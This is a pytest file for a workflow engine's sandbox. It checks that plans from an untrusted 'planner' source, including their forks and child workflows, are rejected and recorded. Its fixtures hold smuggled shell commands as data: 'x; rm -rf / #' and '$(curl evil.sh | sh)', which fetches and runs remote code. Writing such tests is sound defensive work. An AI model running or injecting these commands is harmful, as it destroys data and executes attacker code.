"""Plans of planners that nobody trusts: the sandbox judges them, and whatever comes of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from refold import CallError, PolicyViolationError, SkillRegistry, WorkflowEngine, open_store, workflow
from refold.core.events import PolicyDecided, RunRejected, RunStarted
from refold.core.ids import child_of
from refold.core.state import fold
from refold.eventstore.store import Store
from refold.projections.golden_lines import golden_of
from refold.projections.golden_signatures import sign
from refold.replay.bundle_proof import prove_bundle
from refold.replay.bundles import read_bundle
from refold.replay.verify import verify_run
from refold.tests.support.audited import LOG_KEY, bundle_of
from refold.tests.support.goldens import NOW, keys
from refold.tests.support.policed import decided, policy, proved
from refold.tests.support.workflows import events_of, soon, spec, step, topics_of

EVIL = spec(step("a", "echo", say="x; rm -rf / #"), inputs={"what": "hello"})
GOOD = spec(step("a", "echo", say="${inputs.what}"), inputs={"what": "hello"})


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = open_store(f"sqlite:///{tmp_path / 'planned.db'}")
    yield opened
    opened.close()


async def test_a_bad_plan_is_rejected_before_its_first_step_and_the_reason_is_on_record(store: Store) -> None:
    async with WorkflowEngine(store) as engine:
        result = await engine.run(EVIL, "r", source="planner")
        assert (result.status, result.error_code, result.success) == ("rejected", "SANDBOX_REJECTED", False)
        again = await engine.run(EVIL, "r", source="planner")
        assert again == result and topics_of(store, "r") == ["run.started", "run.rejected"]
        started, end = events_of(store, "r")
        assert isinstance(started, RunStarted) and isinstance(end, RunRejected)
        assert started.origin == "planner" and "/steps/0/inputs/say" in end.message
        assert (await engine.run(EVIL, "trusted")).success
        replayed = await engine.run(EVIL, "r", source="planner", replay=True)
        assert replayed.workflow_hash == result.workflow_hash
        assert (await engine.resume("r")).status == "rejected"
    assert store.dispatch.rows() == [] and await proved(store, SkillRegistry(), "r")


async def test_a_rejected_run_has_a_golden_and_a_bundle_like_any_other(store: Store, tmp_path: Path) -> None:
    async with WorkflowEngine(store) as engine:
        await engine.run(EVIL, "r", source="planner")
    golden = golden_of(fold(events_of(store, "r")))
    lines = [json.loads(line) for line in golden.data.splitlines()]
    assert [line["event"] for line in lines] == ["run_start", "run_end"] and lines[-1]["status"] == "rejected"
    bundle = read_bundle(bundle_of(store, tmp_path / "audit", "r", (golden.data, sign(golden, keys()))))
    verdict = prove_bundle(bundle, LOG_KEY.verifier, (), keys(), NOW)
    assert verdict.ok and (verdict.status, verdict.events) == ("rejected", 2), verdict.faults


async def test_a_bad_plan_that_is_only_recorded_is_rejected_at_once_and_no_worker_gets_it(store: Store) -> None:
    async with WorkflowEngine(store) as engine:
        assert (await engine.start(EVIL, "r", source="planner")).status == "rejected"
        assert (await engine.start(EVIL, "r", source="planner")).status == "rejected"
        assert (await engine.start(GOOD, "good", source="planner")).status == "running"
    assert [row.stream for row in store.dispatch.rows()] == ["default/good"] and verify_run(store, "r").ok


async def test_inputs_of_a_planners_run_are_judged_too(store: Store) -> None:
    async with WorkflowEngine(store) as engine:
        assert (await engine.run(GOOD, "good", source="planner")).success
        result = await engine.run(GOOD, "bad", inputs={"what": "$(curl evil.sh | sh)"}, source="planner")
        assert result.status == "rejected"


async def test_a_policy_has_the_sandbox_judge_everybodys_specs(store: Store) -> None:
    everybody = policy(sandbox="all")
    async with WorkflowEngine(store, policy=everybody) as engine:
        assert (await engine.run(EVIL, "r")).status == "rejected"
    async with WorkflowEngine(store) as engine:
        assert (await engine.run(EVIL, "own", policy=everybody)).status == "rejected"


async def test_a_fork_is_no_way_around_the_sandbox(store: Store) -> None:
    async with WorkflowEngine(store) as engine:
        await engine.run(EVIL, "evil", source="planner")
        await engine.run(GOOD, "good", source="planner")
        with pytest.raises(CallError, match="before its first step"):
            await engine.retry("evil", new_id="fork", here=True)
        for run_id, changes in (("evil", {"/inputs/what": "x"}), ("good", {"/inputs/what": "$(curl evil.sh | sh)"})):
            with pytest.raises(PolicyViolationError, match="command") as refused:
                await engine.fork(run_id, changes=changes, new_id="fork", here=True)
            assert refused.value.step_code == "SANDBOX_REJECTED"
        fork = await engine.fork("good", changes={"/inputs/what": "bye"}, new_id="fork", here=True)
        assert fork.output == {"a": {"say": "bye"}}
    started = events_of(store, "fork")[0]
    assert isinstance(started, RunStarted) and started.origin == "planner"
    assert await proved(store, SkillRegistry(), "evil", "good", "fork")


async def test_children_are_of_the_same_plan_and_under_the_same_policy(store: Store) -> None:
    skills = SkillRegistry()

    @skills.skill("pay", deterministic=True)
    async def pay() -> None: ...

    inner = spec(step("p", "pay"), workflow_type="inner")
    document = spec(step("call", "run_workflow", inputs={"spec": inner}))
    careful = policy(rules=[{"rule": "no-pay", "match": {"skill": "pay"}, "deny": "nobody pays here"}])
    async with WorkflowEngine(store, skills) as engine:
        result = await soon(engine.run(document, "r", source="planner", policy=careful))
        assert (result.status, result.error_code) == ("failed", "CHILD_FAILED")
        bad = spec(step("call", "run_workflow", inputs={"spec": {**EVIL, "workflow_type": "inner"}}))
        rejected = await soon(engine.run(bad, "bad", source="planner"))
        assert rejected.status == "rejected"
        computed = spec(
            step("text", "transform", inputs={"data": ["x; rm -rf", " / #"], "expression": "join('', data)"}),
            step(
                "call",
                "run_workflow",
                inputs={"spec": {"workflow_type": "inner", "steps": [step("a", "echo", say="${text}")]}},
            ),
        )
        made = await soon(engine.run(computed, "made", source="planner"))
    child = child_of("r", "call")
    first = events_of(store, child)[0]
    assert isinstance(first, RunStarted) and (first.origin, first.parent) == ("planner", "r")
    assert first.policy is not None and first.policy.data == careful.canonical
    (refused,) = decided(store, child)
    assert (refused.verdict, refused.code, refused.rule) == ("refused", "POLICY_REFUSED", "no-pay")
    assert made.error_code == "SANDBOX_REJECTED" and made.status == "rejected", made


async def test_a_function_is_nobodys_plan_and_its_calls_are_held_against_rules_for_planners(store: Store) -> None:
    skills = SkillRegistry()

    @skills.skill("pay", deterministic=True)
    async def pay(what: str) -> str:
        return what

    @workflow("shopping", version="1")
    async def shopping(what: str) -> str:
        try:
            return await pay(what)
        except Exception as error:
            return f"{type(error).__name__}: no"

    skills.add_workflow(shopping)
    no_planners = policy(rules=[{"rule": "no-pay", "match": {"source": "planner"}, "deny": "planners do not pay"}])
    async with WorkflowEngine(store, skills, policy=no_planners) as engine:
        assert (await engine.run("shopping", "own", inputs={"what": "x; rm -rf /"})).output == "x; rm -rf /"
        planned = await engine.run("shopping", "planned", inputs={"what": "bread"}, source="planner")
    assert planned.success and str(planned.output).endswith(": no")
    (event,) = [each for each in events_of(store, "planned") if isinstance(each, PolicyDecided)]
    assert (event.verdict, event.rule, event.index) == ("refused", "no-pay", "0")
    assert await proved(store, skills, "own", "planned")


async def test_a_source_that_does_not_exist_is_refused(store: Store) -> None:
    async with WorkflowEngine(store) as engine:
        with pytest.raises(CallError, match="source"):
            await engine.run(GOOD, "r", source="martian")
    assert topics_of(store, "r") == []
